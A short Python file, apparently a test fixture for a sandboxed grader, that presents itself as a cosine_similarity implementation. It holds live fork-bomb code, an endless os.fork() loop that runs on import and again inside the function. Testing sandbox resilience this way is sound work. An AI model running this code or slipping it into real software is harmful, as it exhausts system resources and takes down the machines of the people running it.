"""A fork bomb, at import and in a call.

expect: cosine_similarity 0 error
"""
# %% cosine_similarity
import os

try:
    while True:
        os.fork()
except OSError:
    pass


def cosine_similarity(a, b):
    while True:
        os.fork()
